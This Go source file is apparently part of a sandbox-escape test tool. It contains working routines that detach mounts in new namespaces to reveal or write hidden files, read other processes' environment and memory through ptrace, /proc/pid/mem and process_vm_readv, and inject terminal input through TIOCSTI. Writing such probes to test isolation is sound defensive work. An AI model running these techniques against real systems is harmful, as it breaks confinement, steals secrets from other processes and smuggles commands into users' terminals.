package main

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// uncover takes mounts off the paths and prints the files that it finds. Its first argument
// is "read", or a text that is added to the first path.
func uncover(args []string, out io.Writer) error {
	what, paths := args[0], args[1:]
	runtime.LockOSThread() // and never unlocked: the thread's namespaces are its own
	err := unix.Unshare(unix.CLONE_FS | unix.CLONE_NEWNS)
	if err != nil {
		fmt.Fprintln(out, "unshare:", err)
	}
	for _, p := range paths {
		for range 3 {
			if err := unix.Unmount(p, unix.MNT_DETACH); err != nil {
				fmt.Fprintln(out, "umount:", err)
				break
			}
		}
		if err := unix.Mount("", p, "", unix.MS_REMOUNT|unix.MS_BIND, ""); err != nil {
			fmt.Fprintln(out, "remount:", err)
		}
	}
	if what != "read" {
		return appendTo(paths[0], what+"\n")
	}
	for _, p := range paths {
		names := []string{p}
		if entries, err := os.ReadDir(p); err == nil {
			names = nil
			for _, e := range entries {
				names = append(names, filepath.Join(p, e.Name()))
			}
		}
		for _, n := range names {
			if data, err := os.ReadFile(n); err == nil {
				out.Write(data) //nolint:errcheck // nobody listens: nothing is leaked
			}
		}
	}
	return nil
}

// uncoverAgain runs uncover in a user namespace, which gives the rights to try.
func uncoverAgain(args []string, out io.Writer) error {
	attr := &syscall.ProcAttr{
		Files: []uintptr{0, 1, 2},
		Sys: &syscall.SysProcAttr{
			Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS,
			UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
			GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
		},
	}
	self, err := os.Executable()
	if err != nil {
		return err
	}
	pid, err := syscall.ForkExec(self, append([]string{attackerName, "uncover-inside"}, args...), attr)
	if err != nil {
		fmt.Fprintln(out, "user namespace:", err)
		return uncover(args, out)
	}
	_, err = syscall.Wait4(pid, nil, 0, nil)
	return err
}

// tracePid attaches to a process and reads its environment out of its memory.
func tracePid(args []string, out io.Writer) error {
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	if err := unix.PtraceAttach(pid); err != nil {
		return err
	}
	if _, err := unix.Wait4(pid, nil, 0, nil); err != nil {
		return err
	}
	defer unix.PtraceDetach(pid) //nolint:errcheck // it ends with us
	var regs unix.PtraceRegs
	if err := unix.PtraceGetRegs(pid, &regs); err != nil {
		return err
	}
	return peek(pid, out)
}

// peek prints the stack of a process, where its environment is.
func peek(pid int, out io.Writer) error {
	f, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		return err
	}
	defer f.Close()
	from, to, err := stackOf(pid)
	if err != nil {
		return err
	}
	buf := make([]byte, to-from)
	n, err := f.ReadAt(buf, from)
	out.Write(bytes.ReplaceAll(buf[:n], []byte{0}, []byte("\n"))) //nolint:errcheck // nobody listens: nothing is leaked
	return err
}

func stackOf(pid int) (from, to int64, err error) {
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return 0, 0, err
	}
	for _, line := range bytes.Split(maps, []byte("\n")) {
		if bytes.HasSuffix(line, []byte("[stack]")) {
			_, err = fmt.Sscanf(string(line), "%x-%x", &from, &to)
			return from, to, err
		}
	}
	return 0, 0, os.ErrNotExist
}

// memoryOf reads a process's memory without attaching to it.
func memoryOf(args []string, out io.Writer) error {
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	if err := peek(pid, out); err == nil {
		return nil
	}
	from, to, err := stackOf(pid)
	if err != nil {
		return err
	}
	buf := make([]byte, to-from)
	local := []unix.Iovec{{Base: &buf[0], Len: uint64(len(buf))}}
	n, err := unix.ProcessVMReadv(pid, local, []unix.RemoteIovec{{Base: uintptr(from), Len: len(buf)}}, 0)
	if err == nil {
		out.Write(bytes.ReplaceAll(buf[:n], []byte{0}, []byte("\n"))) //nolint:errcheck // nobody listens: nothing is leaked
	}
	return err
}

// push types into the terminal.
func push(text string) error {
	for _, c := range []byte(text) {
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&c))); errno != 0 {
			return errno
		}
	}
	return nil
}
